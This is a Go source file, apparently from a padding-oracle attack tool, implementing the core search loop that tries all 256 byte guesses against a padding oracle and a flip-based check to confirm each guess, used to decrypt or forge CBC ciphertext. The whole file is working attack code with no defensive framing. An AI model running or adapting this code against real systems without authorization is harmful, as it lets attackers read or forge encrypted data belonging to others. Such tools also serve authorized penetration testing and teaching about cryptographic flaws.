package solver

import (
	"context"

	"github.com/dkowalski/padoracle/oracle"
)

// confirmByFlip implements the disambiguation check shared by reading a byte
// (Solver.findGuess) and choosing one (solvePrevBlock): flip the byte
// immediately before the tail under attack by XOR 0x01 and require the
// padding verdict to survive. A genuine width-k pad does not depend on that
// byte at all, so it should stay valid; an accidental wider pad would break.
// There is nothing earlier to flip when f < 0 (the first byte of the block),
// so that case is accepted unconditionally without touching the oracle;
// probed reports whether the oracle was actually queried, so callers can
// keep their try counters limited to genuine oracle calls.
func confirmByFlip(ctx context.Context, o oracle.Oracle, prev, target []byte, blockSize, k int) (valid, probed bool, err error) {
	f := blockSize - k - 1
	if f < 0 {
		return true, false, nil
	}

	original := prev[f]
	prev[f] = original ^ 0x01
	valid, err = o.Check(ctx, prev, target)
	prev[f] = original
	return valid, true, err
}

// probeHooks lets callers observe each guess tried by tryGuesses without
// tryGuesses itself knowing about stats or progress publication.
type probeHooks struct {
	// beforeProbe runs just before the oracle is queried with prev[i] = guess
	// set. Returning false aborts the search with ErrCancelled.
	beforeProbe func(guess byte) bool
	// afterProbe runs after the primary probe, reporting its verdict.
	afterProbe func(valid bool)
	// afterConfirm runs after a positive primary probe's confirmation check,
	// reporting its verdict and whether it actually queried the oracle.
	afterConfirm func(confirmed, probed bool)
}

// tryGuesses is the shared forge-and-confirm search at the heart of the
// attack: for every guess g in 0..255 (skipping the untouched original byte
// only at k==1, since it trivially reproduces the real trailing byte and
// can't be usefully confirmed against itself), set prev[i] = g, probe the
// oracle, and on a positive verdict require confirmByFlip to agree before
// accepting it. Used by both Solver.findGuess (reading a byte back out) and
// solvePrevBlock (choosing one to forge).
func tryGuesses(
	ctx context.Context,
	o oracle.Oracle,
	blockSize, k, i int,
	prev, target []byte,
	originalByte byte,
	hooks probeHooks,
) (guess byte, found bool, err error) {
	for g := 0; g <= 255; g++ {
		guess = byte(g)
		if k == 1 && guess == originalByte {
			continue
		}

		prev[i] = guess
		if hooks.beforeProbe != nil && !hooks.beforeProbe(guess) {
			return 0, false, ErrCancelled
		}

		valid, err := o.Check(ctx, prev, target)
		if err != nil {
			return 0, false, err
		}
		if hooks.afterProbe != nil {
			hooks.afterProbe(valid)
		}
		if !valid {
			continue
		}

		confirmed, probed, err := confirmByFlip(ctx, o, prev, target, blockSize, k)
		if err != nil {
			return 0, false, err
		}
		if hooks.afterConfirm != nil {
			hooks.afterConfirm(confirmed, probed)
		}
		if confirmed {
			return guess, true, nil
		}
	}
	return 0, false, nil
}
